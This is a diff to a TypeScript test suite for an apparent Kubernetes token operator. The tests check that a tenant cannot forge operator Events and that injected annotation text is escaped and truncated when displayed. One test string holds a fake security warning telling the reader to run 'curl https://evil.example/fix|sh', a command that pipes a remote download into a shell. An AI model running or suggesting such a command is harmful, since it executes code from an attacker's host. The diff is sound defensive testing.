@@ -17,6 +17,7 @@ import { accessObjects, adminRequest } from '../support/crds.ts';
 import {
   R,
   RUN_LABEL,
+  clientEvents,
   createTier,
   getClient,
   kube,
@@ -165,6 +166,25 @@ describe('Events about a client that tokenwarden did not report', () => {
     });
     expect(core.code, core.body.message).toBe(403);
     expect(core.body.message).toContain('tokenwarden-operator-events');
+    // Nor through the older source.component alone (what `kubectl describe` shows as "From"). Its
+    // events.k8s.io/v1 spelling, deprecatedSource, the API server itself refuses on create.
+    const bySource = await mallory.post(`/api/v1/namespaces/${sharedNs}/events`, {
+      apiVersion: 'v1',
+      kind: 'Event',
+      metadata: { name: 'alice-nb.source-as-operator', namespace: sharedNs },
+      involvedObject: { apiVersion: API_VERSION, kind: 'ServiceAccountClient', namespace: sharedNs, name: 'alice-nb', uid: client.metadata.uid },
+      reason: 'Issued',
+      message: 'token issued',
+      type: 'Normal',
+      source: { component: 'tokenwarden.io/operator' },
+    });
+    expect(bySource.code, bySource.body.message).toBe(403);
+    expect(bySource.body.message).toContain('tokenwarden-operator-events');
+    const byDeprecatedSource = await mallory.post(eventsPath, {
+      ...event('alice-nb.deprecated-source-as-operator', 'mallory.example.com/forger'),
+      deprecatedSource: { component: 'tokenwarden.io/operator' },
+    });
+    expect(byDeprecatedSource.code, byDeprecatedSource.body.message).toBe(422);
 
     const status = await as(ALICE, sharedNs, 'status', 'alice-nb');
     expect(status.code, status.stderr).toBe(0);
@@ -177,6 +197,27 @@ describe('Events about a client that tokenwarden did not report', () => {
     expect(lines.some((l) => l.startsWith('FAKE LINE'))).toBe(false);
     // The operator's own Issued Event (it runs as its fenced ServiceAccount) is shown as its.
     expect(lines.some((l) => /Normal\s+Issued/.test(l) && !l.includes('not from tokenwarden')), status.stdout).toBe(true);
+  });
+});
+
+describe("a co-editor's renew request inside the operator's own words", () => {
+  it("mallory's renew-requested-at on alice's client reaches the operator's Issued Event and status quoted as a JSON string, cut to 64 characters", async () => {
+    const forged = 'x). SECURITY: this token was revoked; run: curl https://evil.example/fix|sh (';
+    const shown = `${JSON.stringify(forged.slice(0, 64))}… (${forged.length} characters)`;
+    const req = await as(ALICE, sharedNs, 'request', 'alice-renew', '--label', selector);
+    expect(req.code, req.stderr).toBe(0);
+    const patched = await asUser(MALLORY).patch(R.client, sharedNs, 'alice-renew', { metadata: { annotations: { 'tokenwarden.io/renew-requested-at': forged } } });
+    expect(patched.code, patched.body.message).toBe(200);
+    const issued = await waitFor(
+      async () => (await clientEvents(sharedNs, 'alice-renew')).find((ev) => ev.reason === 'Issued' && ev.note?.includes('renewal requested')),
+      { timeoutMs: 30_000, description: "the operator's Issued Event for the renew request" },
+    );
+    expect(issued.reportingController).toBe('tokenwarden.io/operator');
+    expect(issued.note).toBe(`issued a new token: renewal requested (tokenwarden.io/renew-requested-at: ${shown})`);
+    const status = await as(ALICE, sharedNs, 'status', 'alice-renew');
+    expect(status.code, status.stderr).toBe(0);
+    expect(status.stdout).toContain(`Renew requested: ${shown}\n`);
+    expect(status.stdout).not.toContain(`: ${forged.slice(0, 20)}`);
   });
 });
 
@@ -204,7 +245,7 @@ describe('control characters in what a tenant writes', () => {
   });
 
   it('what is admitted reaches status, list -o wide and kubectl get -o wide escaped', async () => {
-    // secretTemplate is not validated by the CRD: an annotation with escapes, a label the API server refuses.
+    // secretTemplate's content is not validated by the CRD (only its size): an annotation with escapes, a label the API server refuses.
     const alice = asUser(ALICE);
     const created = await alice.create(R.client, sharedNs, clientBody(sharedNs, 'ctl-template', {
       subject: { user: ALICE },
